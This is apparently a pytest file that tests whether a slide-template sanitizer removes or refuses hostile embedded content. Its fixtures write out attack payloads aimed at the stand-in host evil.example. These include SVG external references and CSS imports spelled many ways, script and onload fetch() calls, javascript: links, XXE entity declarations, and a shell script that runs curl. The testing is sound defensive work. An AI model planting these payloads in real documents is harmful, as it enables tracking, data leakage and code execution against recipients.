"""A template's pictures are what they say that they are; no drawing that could fetch or run reaches a deck, however it
is spelled, and the picture kept beside it stays."""

from base64 import b64decode
from struct import pack

import pytest

from layouts import on_slide
from layouts.deck import Deck
from layouts.on_slide.cleaning import FILMS, PICTURES
from queries.errors import PlainError
from tests.layouts import decks, hostile, nasty, slides
from tests.layouts.hostile import INSIDE, LAYOUT, LOGO, MASTER, Change, Parts, link, part, several, xml
from tests.layouts.test_on_slide_template import office

PNG = b64decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==")
FAR = "http://evil.example/a"
"""Nothing of the product, of PowerPoint or of a good template names this place: no part of a deck may."""
X = 'xmlns:xlink="http://www.w3.org/1999/xlink"'


def svg(inner: str, more: str = "", before: str = "") -> bytes:
    return f'{before}<svg xmlns="http://www.w3.org/2000/svg" {more}>{inner}</svg>'.encode()


SPELLED = {
    "href": svg(f'<image href="{FAR}"/>'),
    "xlink": svg(f'<image xlink:href="{FAR}"/>', X),
    "another prefix": svg(f'<image q:href="{FAR}"/>', X.replace("xlink=", "q=")),
    "capitals": svg(f'<IMAGE XLINK:HREF="{FAR.upper()}"/>', X.replace("xlink", "XLINK")),
    "without a scheme": svg('<use href="//evil.example/a#b"/>'),
    "a style attribute": svg(f'<rect style="fill:url({FAR})"/>'),
    "a fill": svg(f'<rect fill="url({FAR}#g)"/>'),
    "a style element": svg(f"<style>rect{{background:url('{FAR}')}}</style>"),
    "an import": svg(f"<style>@import '{FAR}';</style>"),
    "escapes": svg(rf"<style>a{{fill:\75rl({FAR})}} b{{fill:u\72l({FAR})}} @\69mport '{FAR}';</style>"),
    "letters by number": svg(f'<rect style="fill:&#117;rl(&#x68;ttp://evil.example)"/><a href="{FAR}"/>'),
    "a style sheet": svg("", before=f'<?xml-stylesheet type="text/css" href="{FAR}"?>'),
    "a page inside": svg(
        f'<foreignObject><i xmlns="http://www.w3.org/1999/xhtml"><img src="{FAR}"/></i></foreignObject>'
    ),
    "set": svg(f'<image><set attributeName="href" to="{FAR}"/></image>'),
    "animate": svg(f'<image><animate attributeName="href" values="{FAR};{FAR}"/></image>'),
    "an event": svg("", f"onload=\"fetch('{FAR}')\""),
    "a script": svg(f"<script>fetch('{FAR}')</script>"),
    "a link that runs": svg(f"<a href=\"javascript:fetch('{FAR}')\"><rect/></a>"),
    "a name for a text": svg("&b;", before=f'<!DOCTYPE svg [<!ENTITY b SYSTEM "{FAR}">]>'),
    "a definition elsewhere": svg("", before=f'<!DOCTYPE svg SYSTEM "{FAR}">'),
    "a base": svg('<image href="a.png"/>', f'xml:base="{FAR}"'),
    "another namespace": f'<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:image href="{FAR}"/></s:svg>'.encode(),
    "UTF-16": svg(f'<image href="{FAR}"/>').decode().encode("utf-16"),
    "broken": f'<svg><image href="{FAR}">'.encode(),
    "harmless": svg(f"<title>{FAR}</title><rect/>"),
}
TYPES = ("image/svg+xml", "image/SVG+XML", "image/svg", "image/svg+xml;charset=utf-8", "image/webp", "text/xml")
BESIDE = (
    '<a:blip r:embed="rId97"><a:extLst><a:ext uri="{96DAC541-7B7A-43D3-8B79-37D633B846F1}"><asvg:svgBlip '
    'xmlns:asvg="http://schemas.microsoft.com/office/drawing/2016/SVG/main" r:embed="rId99"/></a:ext></a:extLst>'
    "</a:blip>"
)
PAIR = LOGO.replace('<a:blip r:{how}="rId99"/>', BESIDE).replace('name="Far"', 'name="Pair"')
ALONE = LOGO.format(how="embed")


def pair(drawn: bytes, type: str = "image/svg+xml", on: str = MASTER) -> Change:
    """A drawing with the picture that PowerPoint keeps beside it."""
    return several(
        part("ppt/media/beside.png", PNG),
        part("ppt/media/drawn.svg", drawn, type),
        link(on, "image", "../media/beside.png", INSIDE, "rId97"),
        link(on, "image", "../media/drawn.svg", INSIDE),
        xml(on, PAIR),
    )


def alone(content: bytes, type: str, name: str = "ppt/media/alone.png", kind: str = "image") -> Change:
    return several(part(name, content, type), link(MASTER, kind, f"/{name}", INSIDE), xml(MASTER, ALONE))


@pytest.fixture(scope="module")
def deck() -> Deck:
    return decks.whole(decks.shown(nasty.drawings()[3]))


@pytest.fixture(scope="module")
def plain() -> Parts:
    return hostile.unpacked(office())


def made(plain: Parts, change: Change) -> bytes:
    parts = dict(plain)
    change(parts)
    return hostile.packed(parts)


def outward(content: bytes) -> list[str]:
    """The parts of a file that name the place, in letters of one byte or two, or are a drawing of the web at all."""
    marks = (b"evil", b"<svg", b":svg", b"image/svg", b"<html", b"pk\x03\x04", b"javascript")
    parts = {name: text for name, text in hostile.unpacked(content).items() if not name.endswith(".xlsx")}
    return [
        name
        for name, text in parts.items()
        if "svg" in name or any(mark in text.replace(b"\x00", b"").lower() for mark in marks)
    ]


def names(content: bytes) -> list[str]:
    return [shape.name for shape in slides.opened(content).slide_masters[0].shapes]


@pytest.mark.parametrize("spelled", SPELLED)
def test_a_drawing_of_the_web_is_left_out_with_a_note_and_the_picture_beside_it_stays(
    plain: Parts, spelled: str
) -> None:
    content = made(plain, pair(SPELLED[spelled]))
    assert on_slide.check_template(content) == (PICTURES,)
    kept = on_slide.harmless(content)
    assert outward(kept) == hostile.harm_in(kept) == []
    assert "Pair" in names(kept)
    assert PNG in hostile.unpacked(kept).values()


@pytest.mark.parametrize("type", TYPES)
@pytest.mark.parametrize("place", ["alone", "beside"])
def test_it_is_left_out_whatever_it_is_called_and_wherever_it_stands(plain: Parts, type: str, place: str) -> None:
    drawn = SPELLED["href"]
    content = made(plain, pair(drawn, type, LAYOUT) if place == "beside" else alone(drawn, type))
    kept = on_slide.harmless(content)
    assert outward(kept) == hostile.harm_in(kept) == []
    assert on_slide.refusals(kept) == ()
    assert "Far" not in names(kept)
    assert "Logo" in names(kept)


def test_a_template_kept_from_earlier_gives_no_deck_such_a_drawing(plain: Parts, deck: Deck) -> None:
    every = [part(f"ppt/media/more{at}.svg", drawn, "image/svg+xml") for at, drawn in enumerate(SPELLED.values())]
    led = [link(LAYOUT, "image", f"../media/more{at}.svg", INSIDE, f"rId1{at:02}") for at in range(len(every))]
    written = on_slide.write(deck, made(plain, several(*every, *led, pair(SPELLED["escapes"]))))
    assert outward(written) == hostile.harm_in(written) == []
    assert {"Pair", "Logo"} <= set(names(written))
    assert PNG in hostile.unpacked(written).values()


# Files that are called pictures

NONE = {
    "a zip": b"PK\x03\x04" + bytes(60),
    "a page": b"<html><script src='http://evil.example/a'></script></html>",
    "a page, later": b"\n\n <!doctype html><img src=http://evil.example>",
    "a script": b"fetch('http://evil.example')",
    "a shell script": b"#!/bin/sh\ncurl http://evil.example",
    "a drawing": SPELLED["href"],
    "a drawing with a mark before it": b"\xef\xbb\xbf" + SPELLED["href"],
    "a program": b"MZ" + bytes(99) + b"evil",
    "a document": b"%PDF-1.7 http://evil.example",
    "nothing": b"",
}
CALLED = {"png": "image/png", "jpeg": "image/jpeg", "gif": "image/gif", "bmp": "image/bmp", "tiff": "image/tiff"}
CALLED |= {"emf": "image/x-emf", "wmf": "image/x-wmf", "wdp": "image/vnd.ms-photo"}


@pytest.mark.parametrize(
    ("which", "ending"),
    [(which, ending) for which in NONE for ending in CALLED if which == "a page" or ending == "jpeg"],
)
def test_what_is_called_a_picture_and_is_none_is_refused_and_reaches_no_deck(
    plain: Parts, which: str, ending: str
) -> None:
    content = made(plain, alone(NONE[which], CALLED[ending], f"ppt/media/alone.{ending}"))
    assert on_slide.refusals(content)
    with pytest.raises(PlainError, match="The template cannot be used"):
        on_slide.write(decks.whole(), content)
    kept = on_slide.harmless(content)
    assert outward(kept) == hostile.harm_in(kept) == []
    assert on_slide.refusals(kept) == ()
    assert "Far" not in names(kept)


BEGINNINGS = {
    "png": PNG,
    "jpeg": b"\xff\xd8\xff\xe0" + bytes(40),
    "gif": b"GIF89a" + bytes(40),
    "bmp": b"BM" + bytes(40),
    "tiff": b"II*\x00" + bytes(40),
    "emf": pack("<II", 1, 108) + bytes(100) + "Our force".encode("utf-16-le"),
    "wmf": b"\xd7\xcd\xc6\x9a" + bytes(40) + b"Our force",
}


@pytest.mark.parametrize("ending", BEGINNINGS)
def test_pictures_that_are_what_they_say_stay(plain: Parts, ending: str) -> None:
    content = made(plain, alone(BEGINNINGS[ending], CALLED[ending], f"ppt/media/alone.{ending}"))
    assert on_slide.check_template(content) == ()
    kept = on_slide.harmless(content, slides=False)
    assert BEGINNINGS[ending] in hostile.unpacked(kept).values()
    assert "Far" in names(kept)


@pytest.mark.parametrize("ending", ["emf", "wmf"])
@pytest.mark.parametrize("place", ["http://evil.example", "FILE:///c:/evil", "\\\\evil\\share", "ftp://evil.example"])
@pytest.mark.parametrize("code", ["ascii", "utf-16-le"])
def test_a_drawing_of_records_that_names_another_place_is_refused(
    plain: Parts, ending: str, place: str, code: str
) -> None:
    content = made(plain, alone(BEGINNINGS[ending] + place.encode(code), CALLED[ending], f"ppt/media/alone.{ending}"))
    (sentence,) = on_slide.refusals(content)
    assert "name other files or sites" in sentence
    kept = on_slide.harmless(content)
    assert outward(kept) == hostile.harm_in(kept) == []


# Among the slides' own XML

VML = '<v:rect xmlns:v="urn:schemas-microsoft-com:vml" style="x"><v:fill src="http://evil.example"/></v:rect>'
PAGE = '<i xmlns="http://www.w3.org/1999/xhtml" onclick="javascript:evil()"><img src="http://evil.example"/></i>'
TAGS = "application/vnd.openxmlformats-officedocument.presentationml.tags+xml"
ODD = {
    "a drawing": xml(MASTER, SPELLED["href"].decode()),
    "a drawing in VML": xml(LAYOUT, VML),
    "a page": xml(LAYOUT, PAGE),
    "an attribute": xml(MASTER, f' {X} xlink:href="{FAR}" ', "><p:cSld"),
    "an extension": xml(MASTER, f'<p:extLst><p:ext uri="{{A}}">{PAGE}</p:ext></p:extLst>', "</p:sldMaster>"),
    "an instruction": lambda parts: hostile.replace(
        parts, LAYOUT, "<p:sldLayout", f'<?xml-stylesheet href="{FAR}"?><p:sldLayout'
    ),
    "an instruction within": xml(LAYOUT, f'<?xml-stylesheet href="{FAR}"?>'),
    "an instruction among links": lambda parts: hostile.replace(
        parts, hostile.rels(LAYOUT), "<Relationships", f'<?xml-stylesheet href="{FAR}"?><Relationships'
    ),
    "among links": xml(hostile.rels(LAYOUT), PAGE, "</Relationships>"),
    "a part of another kind": several(
        part(
            "ppt/tags/tag1.xml", PAGE.encode(), "application/vnd.openxmlformats-officedocument.presentationml.tags+xml"
        ),
        link(MASTER, "tags", "../tags/tag1.xml", INSIDE),
    ),
    "a zip as tags": several(
        part("ppt/tags/tag1.bin", NONE["a zip"], "application/foo"), link(MASTER, "tags", "../tags/tag1.bin", INSIDE)
    ),
    "a film that is a zip": several(
        part("ppt/media/a.mp4", NONE["a zip"], "video/mp4"), link(MASTER, "video", "../media/a.mp4", INSIDE)
    ),
    "a picture as tags": several(
        part("ppt/tags/tag1.xml", PAGE.encode(), "image/svg+xml"), link(MASTER, "tags", "../tags/tag1.xml", INSIDE)
    ),
}


@pytest.mark.parametrize("which", ODD)
def test_nothing_but_what_office_programs_write_is_taken_over(plain: Parts, which: str) -> None:
    kept = on_slide.harmless(made(plain, ODD[which]), slides=False)
    assert outward(kept) == hostile.harm_in(kept) == []
    assert "Logo" in names(kept)
    for content in hostile.unpacked(kept).values():
        assert b"xml-stylesheet" not in content


@pytest.mark.parametrize("before", ['<!DOCTYPE p SYSTEM "http://evil.example/a">', '<!DOCTYPE p [<!ENTITY b "c">]>'])
@pytest.mark.parametrize("name", [MASTER, hostile.rels(MASTER), "[Content_Types].xml", "ppt/theme/theme1.xml"])
def test_a_definition_or_an_entity_is_refused_in_every_part(plain: Parts, name: str, before: str) -> None:
    content = hostile.packed({**plain, name: before.encode() + plain[name].partition(b"?>")[2]})
    (sentence,) = on_slide.refusals(content)
    assert "no office program" in sentence
    with pytest.raises(PlainError, match="The template cannot be used"):
        on_slide.harmless(content)


def test_films_are_left_out_with_a_note(plain: Parts) -> None:
    assert on_slide.check_template(made(plain, ODD["a film that is a zip"])) == (FILMS,)
